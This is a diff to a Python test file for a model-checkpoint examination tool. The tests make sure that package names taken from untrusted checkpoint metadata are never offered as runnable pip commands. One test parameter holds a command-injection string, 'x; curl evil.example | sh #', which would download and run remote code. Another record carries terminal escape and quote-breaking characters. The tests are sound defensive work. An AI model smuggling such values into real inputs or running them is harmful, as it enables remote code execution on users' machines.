@@ -16,6 +16,7 @@ from crafted import crafted
 from argus_core.cli import main
 from argus_core.errors import UnsafeCheckpointError
 from argus_core.examination.checkpoint import Need, examine_checkpoint
+from argus_core.metadata import all_metadata
 
 pytestmark = pytest.mark.torchfree
 
@@ -145,17 +146,18 @@ def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: A
     record = {**UNET, "as": "u\x1b[2Jnet", "name": "med';x/unet", "provider": "med';x"}
     output = doctor(str(checkpoint(nn_module=record))).output
     assert "\x1b" not in output
-    assert """pip install '?med'"'"';x==2.1'""" in output
+    assert "pip install" not in output
+    assert "ask the author of the file which package to install: that names none" in output
 
 
 @pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
-def test_the_command_is_not_what_the_file_puts_behind_a_semicolon(
+def test_what_the_file_puts_behind_a_semicolon_is_not_a_command(
     checkpoint: Any, here: Any, provider: str
 ) -> None:
     here()
     record = {**UNET, "name": f"{provider}/unet", "provider": provider}
     fix = network(checkpoint(nn_module=record)).fix
-    assert fix == f"pip install '?{provider}==2.1'"
+    assert fix.startswith(f"for nn_module {f'{provider}/unet'!r} ask the author of the file")
 
 
 def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None:
@@ -164,6 +166,34 @@ def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None
     need = network(checkpoint(nn_module=record))
     assert (need.state, need.problem) == ("missing", "was code of the process that saved it, __main__:Net")
     assert need.fix.startswith("for nn_module 'net' import the code that registers it")
+
+
+@pytest.fixture
+def listings(monkeypatch: pytest.MonkeyPatch) -> list[None]:
+    """Keep a None for each time that the metadata of all packages are listed."""
+    made: list[None] = []
+
+    def listed(path: Any = None) -> Any:
+        made.append(None)
+        return all_metadata(path)
+
+    monkeypatch.setattr("argus_core.distributions.all_metadata", listed)
+    return made
+
+
+def test_the_installed_packages_are_listed_once_however_many_are_missing(
+    checkpoint: Any, here: Any, listings: list[None]
+) -> None:
+    here()
+    names = [f"package-{index}" for index in range(300)]
+    records = [{**UNET, "as": name, "name": f"{name}/unet", "provider": name} for name in names]
+    path = checkpoint(step=records)
+    listings.clear()
+    report = examine_checkpoint(path)
+    assert len(listings) == 1
+    assert [need.problem for need in report.needs if need.kind == "step"] == [
+        f"is in {name} 2.1, and {name} is not installed" for name in names
+    ]
 
 
 MALFORMED: list[dict[str, Any]] = [{"nn_module": 3}, {"loss": {"as": "unet"}}, {"step": {}}, {"step": [None]}]
